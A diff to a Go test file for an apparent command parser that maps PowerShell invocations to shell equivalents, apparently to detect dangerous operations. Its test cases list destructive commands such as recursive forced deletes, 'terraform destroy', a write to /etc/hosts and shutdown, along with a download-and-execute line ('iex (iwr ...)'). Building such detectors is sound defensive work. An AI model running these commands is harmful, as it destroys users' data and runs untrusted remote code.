@@ -216,7 +216,7 @@ func TestParse(t *testing.T) {
 		// matter.
 		{"powershell Remove-Item", `pwsh -c 'Remove-Item -Recurse -Force ~/project'`, `pwsh -c Remove-Item -Recurse -Force ~/project | rm -rf ~/project`},
 		{"powershell alias in lower case", `pwsh -c 'ri -r -fo $env:USERPROFILE\src'`, `pwsh -c ri -r -fo $env:USERPROFILE\src | rm -rf $HOME/src~dyn`},
-		{"powershell Remove-Item fed a pipe", `pwsh -c 'Get-ChildItem -Recurse | Remove-Item -Force'`, `pwsh -c Get-ChildItem -Recurse | Remove-Item -Force | rm +more`},
+		{"powershell Remove-Item fed a pipe", `pwsh -c 'Get-ChildItem -Recurse | Remove-Item -Force'`, `pwsh -c Get-ChildItem -Recurse | Remove-Item -Force | rm ./{}~dyn +more`},
 		{"powershell -WhatIf only reports", `pwsh -c 'Remove-Item C:\data -Recurse -WhatIf'`, `pwsh -c Remove-Item C:\data -Recurse -WhatIf`},
 		{"powershell external programs", `pwsh -c 'git reset --hard; & "terraform.exe" destroy -auto-approve'`, `pwsh -c git reset --hard; & "terraform.exe" destroy -auto-approve | git reset --hard | terraform destroy -auto-approve`},
 		{"powershell Set-Content", `pwsh -c 'Set-Content -Path /etc/hosts -Value x'`, `pwsh -c Set-Content -Path /etc/hosts -Value x | (redirect) /etc/hosts`},
@@ -227,6 +227,8 @@ func TestParse(t *testing.T) {
 		{"powershell Invoke-Expression of a literal", `pwsh -c "iex 'Stop-Computer'"`, `pwsh -c iex 'Stop-Computer' | pwsh | shutdown -h now`},
 		{"powershell Invoke-Expression of a download", `pwsh -c 'iex (iwr https://x.y/i.ps1)'`, `pwsh -c iex (iwr https://x.y/i.ps1) | !problem | curl https://x.y/i.ps1`},
 		{"powershell backtick escapes in an external command", "pwsh -c 'git log --format=%H`t%s -5'", "pwsh -c git log --format=%H`t%s -5 | git log --format=%Ht%s -5"},
+		{"powershell Get-ChildItem feeds Remove-Item its paths", `pwsh -c 'Get-ChildItem C:\data -Recurse | Where-Object { $_.Length -gt 0 } | Remove-Item -Force'`,
+			`pwsh -c Get-ChildItem C:\data -Recurse | Where-Object { $_.Length -gt 0 } | Remove-Item -Force | rm C:\data/{}~dyn +more`},
 		{"powershell registry path is no file", `pwsh -c 'Remove-Item HKLM:\Software\X -Recurse'`, `pwsh -c Remove-Item HKLM:\Software\X -Recurse`},
 		{"powershell strings and comments hide nothing", `pwsh -c 'Write-Host "Remove-Item C:\" # Remove-Item C:\'`, `pwsh -c Write-Host "Remove-Item C:\" # Remove-Item C:\`},
 		{"powershell bad encoding", `pwsh -enc notbase64!!`, "!problem"},
